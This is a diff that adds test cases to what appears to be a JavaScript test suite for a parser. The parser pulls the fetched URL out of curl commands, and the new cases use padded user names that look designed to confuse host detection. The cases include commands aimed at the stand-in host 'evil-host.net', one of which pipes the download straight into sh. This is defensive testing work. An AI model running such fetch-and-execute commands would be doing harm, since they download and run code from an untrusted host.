@@ -236,6 +236,10 @@ cases('what a program is given that fetches', [
   ["curl 'evil-host.net/x'", 'http://evil-host.net/x'],
   ['curl --url evil-host.net/x', 'http://evil-host.net/x'],
   ['curl me:pw@evil-host.net:8080/x', 'http://evil-host.net:8080/x'],
+  // A user name as long as curl takes it
+  [`curl ${'u'.repeat(300)}@evil-host.net/x`, 'http://evil-host.net/x'],
+  [`curl ${'good.com.'.repeat(60)}x@evil-host.net/x | sh`, 'http://evil-host.net/x'],
+  [`curl -s ${'u'.repeat(900)}:${'p'.repeat(900)}@evil-host.net/x`, 'http://evil-host.net/x'],
   ['curl evil[.]host[.]net/x', 'http://evil.host.net/x'],
   ['curl $FLAGS evil-host.net/x', 'http://evil-host.net/x'],
   ['curl https://good.com/a evil-host.net/x', 'https://good.com/a', 'http://evil-host.net/x'],
